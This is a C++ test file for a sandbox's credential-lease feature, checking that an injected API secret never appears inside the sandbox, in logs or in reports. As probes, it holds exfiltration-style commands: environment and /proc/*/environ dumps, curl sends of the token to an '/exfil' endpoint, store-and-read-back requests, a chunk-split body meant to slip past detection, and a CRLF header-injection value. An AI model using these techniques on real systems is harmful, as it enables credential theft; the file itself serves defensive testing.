// SPDX-License-Identifier: Apache-2.0
// Credential lease claims (claims/leases.toml): `corral exec --net proxy --credential` with a
// sentinel secret in corral's own environment. The HTTPS upstream (egress_servers.py) checks
// that the secret arrives in the Authorization header and echoes it back raw, base64- and
// URL-encoded in 5-byte chunks; nothing inside the sandbox, in the logs or in the report may
// hold it. A control run hands the same value in with --env, to show the checks see a leak.
#include <fcntl.h>
#include <unistd.h>

#include <random>
#include <string>
#include <vector>

#include "egress_fixture.h"
#include "harness.h"

namespace corral::testing {
namespace {

using Args = std::vector<std::string>;

std::string base64(std::string_view in) {
  static constexpr char kAlphabet[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  size_t i = 0;
  for (; i + 2 < in.size(); i += 3) {
    uint32_t v = (uint8_t(in[i]) << 16) | (uint8_t(in[i + 1]) << 8) | uint8_t(in[i + 2]);
    for (int s = 18; s >= 0; s -= 6) out += kAlphabet[(v >> s) & 63];
  }
  if (i < in.size()) {
    uint32_t v = uint8_t(in[i]) << 16;
    if (i + 1 < in.size()) v |= uint8_t(in[i + 1]) << 8;
    out += kAlphabet[(v >> 18) & 63];
    out += kAlphabet[(v >> 12) & 63];
    out += i + 1 < in.size() ? kAlphabet[(v >> 6) & 63] : '=';
    out += '=';
  }
  return out;
}

std::string freshSecret() {
  std::random_device rd;
  std::string s = "corral-sentinel-lease-";
  for (int i = 0; i < 16; ++i) s += "0123456789abcdef"[rd() % 16];
  return s;
}

// The forms of the secret that must never be seen: raw, and the header value base64-encoded
// (what the upstream echoes). The secret is [a-z0-9-] only, so URL-encoding leaves it raw.
std::vector<std::string> leakForms(const std::string& secret) {
  return {secret, base64("Bearer " + secret), base64(secret)};
}

::testing::AssertionResult holdsNoForm(const std::string& where, const std::string& text, const std::string& secret) {
  for (const std::string& f : leakForms(secret))
    if (text.find(f) != std::string::npos)
      return ::testing::AssertionFailure() << where << " holds the secret (form '" << f.substr(0, 12) << "...')";
  return ::testing::AssertionSuccess();
}

struct LeaseRun {
  std::string secret = freshSecret();
  EgressServers servers{{"CORRAL_TEST_LEASE_SECRET=" + secret}};
  EgressWorkspace ws{servers};

  Args opts(const Args& grants = {}) const {
    Args o = {"--net", "proxy", "--workspace", ws.dir.path(), "--timeout", "60s",
              "--credential", "api=API_TOKEN@" + servers.httpsUrl(), "--lease-ca", servers.cafile()};
    for (const std::string& g : grants) o.insert(o.end(), {"--allow", g});
    return o;
  }
  RunOptions withSecret() const {
    RunOptions r;
    r.env_extra = {"API_TOKEN=" + secret};
    return r;
  }
  // Placeholder mode: a plain-http lease "plain" on the HTTP server, granted with grants.
  Args plainOpts(const Args& grants) const {
    Args o = {"--net", "proxy", "--workspace", ws.dir.path(), "--timeout", "60s"};
    for (const std::string& g : grants) o.insert(o.end(), {"--allow", g});
    o.insert(o.end(), {"--credential", "plain=PLAIN_TOKEN@" + servers.httpUrl()});
    return o;
  }
  RunOptions withPlainSecret() const {
    RunOptions r;
    r.env_extra = {"PLAIN_TOKEN=" + secret};
    return r;
  }
};

// Everything a command inside can look at: its environment, its own /proc view, the files
// it can read, and the proxied response.
const char kLookEverywhere[] =
    "env; tr '\\0' '\\n' < /proc/self/environ; cat /proc/1/environ 2>/dev/null | tr '\\0' '\\n';"
    "grep -rs corral-sentinel /workspace /tmp /etc /proc/self/cmdline 2>/dev/null;"
    "curl -sS --max-time 20 http://127.0.0.1:3128/lease/api/lease-check; true";

TEST(LeasesSecretNeverInside, BrokerInjectsASecretTheSandboxNeverHolds) {
  LeaseRun t;
  REQUIRE_SERVERS(t.servers);
  RunResult r = runCorral(t.opts(), {"sh", "-c", kLookEverywhere}, t.withSecret());
  ASSERT_EQ(r.exit_code, 0) << r.describe();
  // The upstream got the real secret: injection happened (the test can fail on this side).
  EXPECT_NE(r.out.find("auth=ok"), std::string::npos) << r.describe();
  EXPECT_NE(r.out.find("API_TOKEN=corral-lease-api-"), std::string::npos) << "no placeholder: " << r.out;
  EXPECT_NE(r.out.find("raw=Bearer [REDACTED:api]"), std::string::npos) << r.out;
  EXPECT_TRUE(holdsNoForm("the sandbox's view", r.out, t.secret)) << claim("leases.secret-never-inside", "leaked") << r.out;
  EXPECT_EQ(t.servers.count(true), 1);
}

TEST(LeasesSecretNeverInside, ControlTheSameChecksSeeASecretPassedIn) {
  LeaseRun t;
  REQUIRE_SERVERS(t.servers);
  Args o = t.opts();
  o.insert(o.end(), {"--env", "OTHER=" + t.secret});
  RunResult r = runCorral(o, {"sh", "-c", kLookEverywhere}, t.withSecret());
  ASSERT_EQ(r.exit_code, 0) << r.describe();
  EXPECT_FALSE(holdsNoForm("the sandbox's view", r.out, t.secret)) << "the leak checks would miss a leak: " << r.out;
}

TEST(LeasesSecretNeverInside, APlaceholderSentToAnotherHostStaysAPlaceholder) {
  LeaseRun t;
  REQUIRE_SERVERS(t.servers);
  // The other host is granted: the request goes through, with the placeholder untouched.
  const std::string script = "curl -sS --max-time 20 -H \"Authorization: Bearer $API_TOKEN\" " + t.servers.httpUrl() +
                             "/exfil; curl -sS --max-time 20 " + t.servers.httpUrl() + "/q?k=$API_TOKEN";
  RunResult r = runCorral(t.opts({t.servers.httpUrl()}), {"sh", "-c", script}, t.withSecret());
  ASSERT_EQ(r.exit_code, 0) << r.describe();
  EXPECT_NE(r.out.find("upstream ok /exfil"), std::string::npos) << r.describe();
  const std::string seen = t.servers.lastHeaders(false);
  EXPECT_TRUE(holdsNoForm("the other host's request", seen, t.secret)) << claim("leases.secret-never-inside", "sent elsewhere");
  const std::string all_http = seen + r.out;
  EXPECT_NE(r.err.find("lease_placeholder_suspect"), std::string::npos) << "exfiltration attempt not logged: " << r.err;
  EXPECT_TRUE(holdsNoForm("stderr", r.err, t.secret));
  ASSERT_TRUE(r.report);
  bool suspect_counted = false;
  for (const auto& e : (*r.report)["egress"])
    if (e.value("suspects", 0) > 0) suspect_counted = true;
  EXPECT_TRUE(suspect_counted) << r.report->dump();
}

// Placeholder mode (a plain-http lease): the sandbox must not choose where the secret goes.
// If any header were swapped, it could have the upstream store the secret (a note, a
// User-Agent) and read it back from a later response that swapped nothing. The upstream's
// /__last returns the headers of the previous request: a store-and-show-back endpoint.
TEST(LeasesSecretNeverInside, PlaceholderModeNeitherSwapsAChosenHeaderNorShowsAStoredSecretBack) {
  LeaseRun t;
  REQUIRE_SERVERS(t.servers);
  const std::string u = t.servers.httpUrl();
  const Args o = t.plainOpts({u});
  const RunOptions env = t.withPlainSecret();
  const std::string script =
      "curl -sS --max-time 20 -H \"X-Note: $PLAIN_TOKEN\" -A \"$PLAIN_TOKEN\" " + u + "/store; echo; "
      "curl -sS --max-time 20 " + u + "/__last; echo ---; "
      "curl -sS --max-time 20 -H \"Authorization: Bearer $PLAIN_TOKEN\" " + u + "/declared; echo; "
      "curl -sS --max-time 20 " + u + "/__last";
  RunResult r = runCorral(o, {"sh", "-c", script}, env);
  ASSERT_EQ(r.exit_code, 0) << r.describe();
  EXPECT_NE(r.out.find("upstream ok /store"), std::string::npos) << r.describe();
  EXPECT_NE(r.out.find("upstream ok /declared"), std::string::npos) << r.describe();
  // The declared use still works: the upstream got the secret in the lease's header...
  EXPECT_NE(t.servers.lastHeaders(false).find("Bearer " + t.secret), std::string::npos)
      << "the lease was not injected in its declared header";
  // ...and what it shows back later comes out redacted; the chosen headers carried only the
  // placeholder, which is reported.
  EXPECT_NE(r.out.find("Bearer [REDACTED:plain]"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("X-Note: corral-lease-plain-"), std::string::npos) << r.out;
  EXPECT_TRUE(holdsNoForm("the sandbox's view", r.out, t.secret)) << claim("leases.secret-never-inside", "shown back") << r.out;
  EXPECT_NE(r.err.find("place=header-undeclared"), std::string::npos) << r.err;
  EXPECT_TRUE(holdsNoForm("stderr", r.err, t.secret));
}

// The same upstream under a second grant (another port here; a wildcard over the lease's
// domain or its IP literal in life): what the lease's destination stored comes back redacted
// through the other name too. Redaction follows the run's leases, not the destination.
TEST(LeasesSecretNeverInside, AStoredSecretShownThroughAnotherGrantedNameIsRedacted) {
  LeaseRun t;
  REQUIRE_SERVERS(t.servers);
  const std::string u = t.servers.httpUrl(), alias = t.servers.httpAliasUrl();
  const Args o = t.plainOpts({u, alias});
  const RunOptions env = t.withPlainSecret();
  const std::string script = "curl -sS --max-time 20 -H \"Authorization: Bearer $PLAIN_TOKEN\" " + u + "/declared; echo ---; "
                             "curl -sS --max-time 20 " + alias + "/__last";
  RunResult r = runCorral(o, {"sh", "-c", script}, env);
  ASSERT_EQ(r.exit_code, 0) << r.describe();
  EXPECT_NE(t.servers.lastHeaders(false).find("Bearer " + t.secret), std::string::npos) << "control: injected";
  EXPECT_NE(r.out.find("Bearer [REDACTED:plain]"), std::string::npos) << r.out;
  EXPECT_TRUE(holdsNoForm("the sandbox's view", r.out, t.secret))
      << claim("leases.secret-never-inside", "shown back through another grant") << r.out;
  // And the record says so: a lease event for the redaction at the other name, as at the
  // lease's own destination (it had none: only the lease's destination was looked at).
  ASSERT_TRUE(r.report) << r.describe();
  const std::string alias_port = alias.substr(alias.rfind(':') + 1);
  bool recorded = false;
  for (const auto& le : (*r.report)["leases"])
    if (le.value("rule", "") == "lease-echo-redacted" && std::to_string(le.value("port", 0)) == alias_port)
      recorded = le.value("lease", "") == "plain" && le.value("redactions", 0) > 0;
  EXPECT_TRUE(recorded) << claim("leases.secret-never-inside", "a redaction at another granted name left no lease event")
                        << r.report->dump();
}

// A placeholder split across two chunks of a chunked request body is whole in the body the
// upstream reassembles: it is reported like one sent in a single piece.
TEST(LeasesSecretNeverInside, APlaceholderSplitAcrossChunksIsReported) {
  LeaseRun t;
  REQUIRE_SERVERS(t.servers);
  const std::string u = t.servers.httpUrl();
  const Args o = t.plainOpts({u});
  const RunOptions env = t.withPlainSecret();
  const std::string py =
      "import os,socket\n"
      "p=os.environ['PLAIN_TOKEN'].encode(); a,b=p[:len(p)//2],p[len(p)//2:]\n"
      "host=os.environ['U'][len('http://'):]\n"
      "body=b'%x\\r\\n'%len(a)+a+b'\\r\\n'+b'%x\\r\\n'%len(b)+b+b'\\r\\n0\\r\\n\\r\\n'\n"
      "s=socket.create_connection(('127.0.0.1',3128))\n"
      "s.sendall(b'POST '+os.environ['U'].encode()+b'/split HTTP/1.1\\r\\nHost: '+host.encode()+"
      "b'\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n'+body)\n"
      "print(s.recv(4096).split(b'\\r\\n')[0].decode())\n";
  RunResult r = runCorral(o, {"/usr/bin/env", "U=" + u, "python3", "-c", py}, env);
  ASSERT_EQ(r.exit_code, 0) << r.describe();
  EXPECT_NE(r.err.find("place=body"), std::string::npos)
      << claim("leases.secret-never-inside", "a split placeholder went unreported") << r.describe();
}

TEST(LeasesNoSecretsInLogs, NoLogLineReportOrEventHoldsTheSecret) {
  LeaseRun t;
  REQUIRE_SERVERS(t.servers);
  TempDir out("lease-report");
  Args o = t.opts({t.servers.httpUrl()});
  o.insert(o.end(), {"--report", out / "report.json"});
  // A good use, an unknown lease, a placeholder sent elsewhere, a path carrying the placeholder.
  const std::string script =
      "curl -sS --max-time 20 http://127.0.0.1:3128/lease/api/lease-check >/dev/null;"
      "curl -sS --max-time 20 http://127.0.0.1:3128/lease/nope/x >/dev/null;"
      "curl -sS --max-time 20 -H \"X-K: $API_TOKEN\" " + t.servers.httpUrl() + "/h >/dev/null;"
      "curl -sS --max-time 20 \"http://127.0.0.1:3128/lease/api/p?$API_TOKEN\" >/dev/null; true";
  RunResult r = runCorral(o, {"sh", "-c", script}, t.withSecret());
  ASSERT_EQ(r.exit_code, 0) << r.describe();
  const std::string report = out.read("report.json");
  ASSERT_FALSE(report.empty());
  EXPECT_TRUE(holdsNoForm("stderr", r.err, t.secret)) << claim("leases.no-secrets-in-logs", "stderr") << r.err;
  EXPECT_TRUE(holdsNoForm("the report", report, t.secret)) << claim("leases.no-secrets-in-logs", "report") << report;
  auto j = nlohmann::json::parse(report);
  ASSERT_GE(j["leases"].size(), 3u) << report;
  bool unknown = false, allowed = false;
  for (const auto& e : j["leases"]) {
    EXPECT_EQ(e["path_sha256"].get<std::string>().size(), 64u) << e.dump();
    if (e["rule"] == "lease-unknown") unknown = true;
    if (e["decision"] == "allow" && e["status"] == 200) allowed = true;
  }
  EXPECT_TRUE(unknown && allowed) << report;
  // Paths are hashed, never recorded: the placeholder in a query does not appear either.
  EXPECT_EQ(report.find("corral-lease-api-"), std::string::npos) << report;
}

// exit 125, nothing ran, one "corral: " line besides the JSON report.
::testing::AssertionResult refused(const RunResult& r) {
  std::vector<std::string> lines = r.stderrLines();
  if (r.exit_code != 125 || !r.out.empty() || lines.size() != 1 || !lines[0].starts_with("corral: "))
    return ::testing::AssertionFailure() << "not a one-line refusal: " << r.describe();
  return ::testing::AssertionSuccess();
}

TEST(LeasesNoSecretsInLogs, ABadOrMissingSecretIsRefusedWithoutEchoingIt) {
  LeaseRun t;
  REQUIRE_SERVERS(t.servers);
  RunOptions unset;  // API_TOKEN not in corral's environment
  RunResult missing = runCorral(t.opts(), {"true"}, unset);
  EXPECT_TRUE(refused(missing));
  EXPECT_NE(missing.err.find("API_TOKEN"), std::string::npos) << missing.err;
  RunOptions bad;
  bad.env_extra = {"API_TOKEN=" + t.secret + "\r\nX-Injected: 1"};
  RunResult split = runCorral(t.opts(), {"true"}, bad);
  EXPECT_TRUE(refused(split));
  EXPECT_TRUE(holdsNoForm("the refusal", split.err, t.secret)) << split.err;
  EXPECT_EQ(t.servers.count(true), 0);
}

}  // namespace
}  // namespace corral::testing
